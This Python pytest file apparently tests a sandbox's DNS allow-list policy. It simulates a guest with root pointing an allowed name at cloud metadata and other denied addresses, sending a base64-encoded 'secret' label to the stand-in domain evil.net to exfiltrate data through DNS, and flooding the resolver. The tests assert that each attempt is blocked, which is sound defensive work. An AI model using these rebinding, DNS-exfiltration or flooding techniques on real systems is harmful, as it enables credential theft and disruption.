"""Root in a sandbox, whose policy allows only some domain names, tries to reach other addresses or to send data in DNS.

The attacker also controls an allowed name. The guest is a network namespace on a real slot (see
``tests.kvm_xfs.test_netns``).
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import socket

import dns.message
import dns.rcode
import pytest

from tests.kvm_xfs.slot_networks import METADATA_ADDRESSES, OPEN_POLICY, Guest, run_inside
from tests.kvm_xfs.test_domain_names import SERVICE, ask, make_names_only_policy, world_with_names

pytestmark = pytest.mark.usefixtures("requires_root")

ATTACKER = "attacker.example.com"
MAX_FLOOD_QUERIES = 1000


async def test_allowed_names_open_neither_denied_addresses_nor_other_name_servers() -> None:
    async with world_with_names() as (w, machine, server, _):
        neighbour = w.add_guest(neighbour_slot := await w.pool.take(OPEN_POLICY))
        w.close_at_end(neighbour.listen(80))
        w.close_at_end(machine.listen(53))
        guest = w.add_guest(await w.pool.take(make_names_only_policy(ATTACKER, "*.example.com")))
        # The name now resolves to denied addresses.
        denied_addresses = [*METADATA_ADDRESSES, machine.address, machine.host_address, neighbour_slot.host_address]
        for address in denied_addresses:
            server.records[ATTACKER] = [f"300 A {address}"]
            assert await ask(guest, ATTACKER) == (dns.rcode.NOERROR, [])
        server.records["alias.example.com"] = [
            "1 CNAME imds.evil.net.",
            f"0 A {METADATA_ADDRESSES[0]}",
            f"0 A {SERVICE}",
        ]
        assert await ask(guest, "alias.example.com") == (dns.rcode.NOERROR, [SERVICE])
        assert guest.can_reach(SERVICE, 80, timeout=20)
        assert [each for each in denied_addresses if guest.can_reach(each, 80)] == []
        # Other names do not reach a name server, wherever the query is sent, and neither does DNS over TCP.
        server.names.clear()
        for address in (machine.address, METADATA_ADDRESSES[0], "8.8.8.8", "169.254.0.22"):
            assert await ask(guest, "c2VjcmV0.evil.net", server=address) == (dns.rcode.REFUSED, [])
        assert not guest.can_reach(machine.address, 53)
        assert server.names == []
        # The kernel drops most packets of a flood. The resolver continues to answer after it.
        assert await asyncio.to_thread(run_inside, guest.path, flood) < MAX_FLOOD_QUERIES
        assert await ask_repeatedly(guest, "alias.example.com") == [SERVICE]


def flood() -> int:
    """Send queries until one is dropped, and then arbitrary bytes. Returns the number of queries with a reply."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.connect(("192.0.2.53", 53))
        client.settimeout(0.5)
        reply_count = 0
        with contextlib.suppress(TimeoutError):
            while reply_count < MAX_FLOOD_QUERIES:
                client.send(dns.message.make_query(f"n{reply_count}.evil.net", "A").to_wire())
                client.recv(4096)
                reply_count += 1
        for size in range(600):
            client.send(os.urandom(size))
        return reply_count


async def ask_repeatedly(guest: Guest, name: str) -> list[str]:
    """Send a query until there is a reply, because the kernel drops queries of a sandbox that sends too many."""

    def exchange_messages() -> bytes:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(1)
            client.connect(("192.0.2.53", 53))
            for _ in range(20):
                client.send(dns.message.make_query(name, "A").to_wire())
                try:
                    return client.recv(4096)
                except TimeoutError:
                    pass
        raise AssertionError("the resolver no longer answers")

    reply = dns.message.from_wire(await asyncio.to_thread(run_inside, guest.path, exchange_messages))
    return [record.address for records in reply.answer for record in records]
